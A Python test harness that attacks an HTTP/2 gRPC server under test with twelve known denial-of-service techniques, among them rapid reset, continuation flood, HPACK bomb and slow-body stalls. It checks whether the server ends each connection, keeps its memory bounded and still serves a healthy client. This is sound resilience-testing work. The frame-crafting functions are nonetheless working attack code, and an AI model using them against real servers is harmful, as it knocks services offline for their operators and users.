# SPDX-License-Identifier: Apache-2.0
"""The attacks of the wire, each on a connection of its own until the server ends it.

    attacks.py --server HOST:PORT --certificates DIRECTORY --server-process PID

The server is to be started with short times (--handshake-seconds 1 --header-seconds 1 --stall-seconds 1), so that slow
attacks end soon. Each must be ended by the server, its memory stay within 100 MB of what it was, and a healthy client be
served. `Benchmarks/attacks/run` measures the same attacks beside a healthy client.
"""
import socket
import struct
import sys
import time

from http2 import *  # noqa: F403: the vocabulary of this file

INFER = "/inference.GRPCInferenceService/ModelInfer"
INDEX = "/inference.GRPCInferenceService/RepositoryIndex"
PING8 = b"12345678"


def until_refused(peer, make, batches=400):
    """Sends batches until the server takes no more, then reads its last words; whether it ended the connection."""
    for number in range(batches):
        if not peer.send(make(number)):
            break
    try:
        code = peer.wait_for_close()
    except TimeoutError:
        return False, None
    return True, code


def rapid_reset(arguments):
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    def batch(number):
        first = number * 200 + 1
        return b"".join(
            frame(HEADERS, END_HEADERS, s, call(INFER)) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
            for s in range(first, first + 200, 2))
    return until_refused(Peer(arguments), batch)


def continuation_flood(arguments):
    """CVE-2024-28182: a field block that has no end."""
    peer = Peer(arguments)
    peer.send(frame(HEADERS, 0, 1, call()))
    return until_refused(peer, lambda _: frame(CONTINUATION, 0, 1, literal("a", "b")) * 100)


def hpack_bomb(arguments):
    """CVE-2016-6581: one large entry of the table, and thousands of one-byte references to it."""
    value = "v" * 3900
    block = call() + b"\x40" + literal("bomb", value)[1:] + b"\xbe" * 10_000
    return until_refused(Peer(arguments), lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, block), batches=20)


def header_list_bomb(arguments):
    """A field block of a hundred times the limit, in frames of the largest size."""
    block = call() + literal("bomb", "v" * 250_000)
    def batch(number):
        if number == 0:
            return frame(HEADERS, 0, 1, block)
        return frame(CONTINUATION, 0, 1, literal("bomb", "v" * 250_000))
    return until_refused(Peer(arguments), batch, batches=20)


def settings_flood(arguments):
    """CVE-2019-9515: settings, each of which wants an answer."""
    return until_refused(Peer(arguments), lambda _: settings((3, 100)) * 100)


def ping_flood(arguments):
    """CVE-2019-9512: pings, each of which wants an answer."""
    return until_refused(Peer(arguments), lambda _: frame(PING, 0, 0, PING8) * 100)


def empty_data_flood(arguments):
    """CVE-2019-9518: frames that carry nothing."""
    peer = Peer(arguments)
    peer.send(frame(HEADERS, END_HEADERS, 1, call(INFER)))
    return until_refused(peer, lambda _: frame(DATA, 0, 1) * 100)


def zero_window_stall(arguments):
    """CVE-2019-9517: answers that are asked for and never read."""
    peer = Peer(arguments, first=[(4, 0)])
    peer.send(b"".join(request(s, call(INDEX)) for s in range(1, 101, 2)))
    resets = 0
    try:
        for f in peer.frames():
            if isinstance(f, frames.RstStreamFrame):
                resets += 1
                if resets == 50:
                    break
    except TimeoutError:
        return False, None
    peer.close()
    return resets == 50 or peer.is_closed, CANCEL


def slow_headers(arguments):
    """A field block that is begun and not ended."""
    peer = Peer(arguments)
    # The acknowledgement of the server's settings may not come inside of the block.
    next(peer.frames())
    peer.send(frame(HEADERS, 0, 1, call()[:30]))
    return until_refused(peer, lambda _: b"", batches=1)


def slow_body(arguments):
    """A message of which a byte comes now and then."""
    peer = Peer(arguments)
    peer.socket.settimeout(0.2)
    peer.send(frame(HEADERS, END_HEADERS, 1, call(INFER)) + frame(DATA, 0, 1, b"\0\0\x10\0\0"))
    end = time.monotonic() + 20
    received = peer.frames()
    while time.monotonic() < end:
        peer.send(frame(DATA, 0, 1, b"x"))
        try:
            f = next(received)
            if isinstance(f, frames.HeadersFrame) and "END_STREAM" in f.flags:
                peer.close()
                return True, NO_ERROR
        except TimeoutError:
            received = peer.frames()
        except StopIteration:
            return True, None
    return False, None


def silent_tls(arguments):
    """TLS, and not a byte of HTTP/2."""
    return until_refused(Peer(arguments, preface=False), lambda _: b"", batches=1)


def connection_flood(arguments, count=300):
    """Sockets that never begin a handshake."""
    host, port = arguments.server.rsplit(":", 1)
    sockets = []
    for _ in range(count):
        try:
            sockets.append(socket.create_connection((host, int(port)), timeout=10))
        except OSError:
            break
    closed = 0
    for s in sockets:
        try:
            closed += s.recv(1) == b""
        except TimeoutError:
            pass
        except OSError:
            closed += 1
        s.close()
    return closed == len(sockets), None


ATTACKS = [rapid_reset, continuation_flood, hpack_bomb, header_list_bomb, settings_flood, ping_flood, empty_data_flood,
           zero_window_stall, slow_headers, slow_body, silent_tls, connection_flood]
MEMORY_LIMIT = 100 << 20


def resident(process):
    """Resident memory of a process in bytes."""
    with open(f"/proc/{process}/statm") as f:
        return int(f.read().split()[1]) * 4096


def main():
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--server-process", required=True, type=int)
    arguments = p.parse_args()
    is_served(arguments)
    before = resident(arguments.server_process)
    failures = []
    for attack in ATTACKS:
        ended, code = attack(arguments)
        grown = resident(arguments.server_process) - before
        print(f"{attack.__name__}: ended={ended} code={code} memory=+{grown >> 20} MB")
        if not ended:
            failures.append(f"{attack.__name__}: the server does not end it")
        if grown > MEMORY_LIMIT:
            failures.append(f"{attack.__name__}: the server has {grown >> 20} MB more than before")
        if not is_served(arguments):
            failures.append(f"{attack.__name__}: a healthy client is not served afterwards")
    for failure in failures:
        print(failure, file=sys.stderr)
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
